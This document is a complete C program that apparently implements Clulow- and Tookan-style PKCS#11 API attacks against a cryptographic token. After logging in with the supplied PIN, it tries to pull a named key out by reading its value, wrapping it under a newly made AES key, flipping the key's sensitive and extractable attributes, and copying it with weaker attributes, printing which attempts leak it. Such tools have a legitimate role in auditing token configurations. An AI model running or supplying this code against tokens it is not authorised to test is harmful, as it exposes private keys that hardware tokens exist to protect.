/* Tries to get a private key out of a token by the token's own functions, as Clulow (2003) and Tookan (CCS 2010) did: tookan MODULE PIN LABEL.
   Prints "ATTEMPT RESULT" by line, the result being a CK_RV, and "leaked" for one by which the key's bytes, or a key that can be taken, came out. */
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>

typedef unsigned long ul;
typedef struct { ul type; void *value; ul length; } attribute;
typedef struct { ul mechanism; void *parameter; ul length; } mechanism;
struct list { unsigned char version[2]; void *function[68]; };

static struct list *f;
static ul session, key;
static unsigned char yes = 1, no = 0;

#define CALL(n, ...) ((ul (*)())f->function[n])(__VA_ARGS__)

static void tell(const char *attempt, ul said, int leaked) { printf("%s %lx%s\n", attempt, said, leaked ? " leaked" : ""); }

static ul make(ul how, attribute *wanted, ul count)
{
    mechanism generate = { how, 0, 0 };
    ul made = 0;
    return CALL(58, session, &generate, wanted, count, &made) ? 0 : made;
}

static void wrap(const char *attempt, ul wrapping, ul how, void *parameter, ul length)
{
    static unsigned char out[4096];
    ul size = sizeof out;
    mechanism with = { how, parameter, length };
    ul said = CALL(60, session, &with, wrapping, key, out, &size);
    tell(attempt, said, said == 0);
}

static void set(const char *attempt, ul type, unsigned char *value)
{
    attribute one = { type, value, 1 };
    ul said = CALL(25, session, key, &one, 1UL);
    tell(attempt, said, said == 0);
}

static void copy(const char *attempt, attribute *changed, ul count)
{
    ul made = 0, said = CALL(21, session, key, changed, count, &made);
    tell(attempt, said, said == 0);
}

int main(int count, char **arguments)
{
    void *library = count == 4 ? dlopen(arguments[1], RTLD_NOW) : 0;
    ul slots[8], slot_count = 8, found = 0, class = 3, secret = 4, aes = 0x1f, size = 32;
    if (!library || ((ul (*)(struct list **))dlsym(library, "C_GetFunctionList"))(&f) || CALL(0, 0)) return 2;
    if (CALL(4, 1, slots, &slot_count) || CALL(12, slots[0], 6UL, 0, 0, &session)) return 3;
    if (CALL(18, session, 1UL, arguments[2], (ul)strlen(arguments[2]))) return 4;
    attribute wanted[] = { { 0, &class, sizeof class }, { 3, arguments[3], strlen(arguments[3]) } };
    if (CALL(26, session, wanted, 2UL) || CALL(27, session, &key, 1UL, &found) || CALL(28, session) || !found) return 5;

    unsigned char value[256];
    attribute read = { 0x11, value, sizeof value };
    ul said = CALL(24, session, key, &read, 1UL);
    tell("read", said, said == 0);

    attribute wrapping[] = { { 0, &secret, sizeof secret }, { 0x100, &aes, sizeof aes }, { 0x161, &size, sizeof size }, { 1, &no, 1 },
        { 0x106, &yes, 1 }, { 0x105, &yes, 1 } };
    ul by = make(0x1080, wrapping, 6);
    if (!by) return 6;
    unsigned char iv[16] = { 0 };
    wrap("wrap-key-wrap", by, 0x2109, 0, 0);
    wrap("wrap-key-wrap-pad", by, 0x210a, 0, 0);
    wrap("wrap-cbc-pad", by, 0x1085, iv, sizeof iv);

    set("set-extractable", 0x162, &yes);
    set("set-not-sensitive", 0x103, &no);
    set("set-wrap", 0x106, &yes);
    set("set-unwrap", 0x107, &yes);
    set("set-decrypt", 0x105, &yes);
    set("set-modifiable", 0x170, &yes);
    set("set-copyable", 0x171, &yes);

    attribute weaker[] = { { 1, &no, 1 }, { 0x162, &yes, 1 }, { 0x103, &no, 1 } };
    copy("copy", weaker, 1);
    copy("copy-extractable", weaker, 2);
    copy("copy-weaker", weaker, 3);
    wrap("wrap-again", by, 0x210a, 0, 0);
    return 0;
}
